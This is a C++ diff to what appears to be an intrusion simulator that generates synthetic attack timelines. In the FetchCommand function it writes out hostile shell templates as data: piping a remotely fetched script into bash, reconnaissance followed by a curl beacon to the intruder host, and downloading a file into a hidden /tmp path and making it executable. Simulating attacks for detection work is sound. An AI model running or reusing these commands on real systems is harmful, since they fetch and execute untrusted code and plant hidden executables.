@@ -89,15 +89,22 @@ Intruder MakeIntruder(Random& random) {
   return intruder;
 }
 
-std::string FetchCommand(const Intruder& intruder, Random& random) {
+ShellCommand FetchCommand(const Intruder& intruder, Random& random) {
+  const std::string home = absl::StrCat("https://", intruder.home, "/");
+  const std::string script = absl::StrCat(home, random.Hex(6), ".sh");
+  const std::string hidden = absl::StrCat("/tmp/.", random.Hex(8));
   switch (random.Between(0, 2)) {
     case 0:
-      return absl::StrCat("curl -fsSL https://", intruder.home, "/", random.Hex(6), ".sh | bash");
+      return {absl::StrCat("curl -fsSL ", script, " | bash"),
+              {{ProgramId::kCurl, {"curl", "-fsSL", script}}}};
     case 1:
-      return absl::StrCat("id; uname -a; curl -s https://", intruder.home, "/r?h=`hostname`");
+      return {absl::StrCat("id; uname -a; curl -s ", home, "r?k=", hidden.substr(6)),
+              {{ProgramId::kId, {"id"}},
+               {ProgramId::kUname, {"uname", "-a"}},
+               {ProgramId::kCurl, {"curl", "-s", absl::StrCat(home, "r?k=", hidden.substr(6))}}}};
     default:
-      return absl::StrCat("curl -s -o /tmp/.", random.Hex(8), " https://", intruder.home,
-                          "/m && chmod +x /tmp/.*");
+      return {absl::StrCat("curl -s -o ", hidden, " ", home, "m && chmod +x ", hidden),
+              {{ProgramId::kCurl, {"curl", "-s", "-o", hidden, home + "m"}}}};
   }
 }
 
@@ -126,17 +133,15 @@ Visit FailedTry(const Intruder& intruder, Random& random) {
 
 Script PlayRaid(Machine& machine, Raid raid) {
   Timeline& timeline = machine.timeline;
-  if (machine.random.Chance(0.6)) {
-    const ProgramId look = machine.random.Chance(0.5) ? ProgramId::kWhoami : ProgramId::kId;
-    Command command = {look, {std::string(machine.processes.Installed()[look].name)}};
-    co_await machine.RunChild(raid.shell, std::move(command),
+  const Command call = raid.steps.back();
+  raid.steps.pop_back();
+  for (const Command& step : raid.steps) {
+    co_await machine.RunChild(raid.shell, step,
                               machine.Between(2 * kMillisecond, 6 * kMillisecond));
   }
   Process* curl = machine.processes.Fork(*raid.shell);
   co_await timeline.Sleep(machine.Between(150 * kMicrosecond, kMillisecond));
-  Command command = {ProgramId::kCurl,
-                     {"curl", "-fsSL", absl::StrCat("https://", raid.intruder.home, "/")}};
-  machine.processes.Exec(*curl, command, machine.Now(raid.planted, "tool"));
+  machine.processes.Exec(*curl, call, machine.Now(raid.planted, "tool"));
   co_await timeline.Sleep(machine.Between(8 * kMillisecond, 40 * kMillisecond) + raid.pause);
   ConnectionStart connection;
   connection.process = curl;
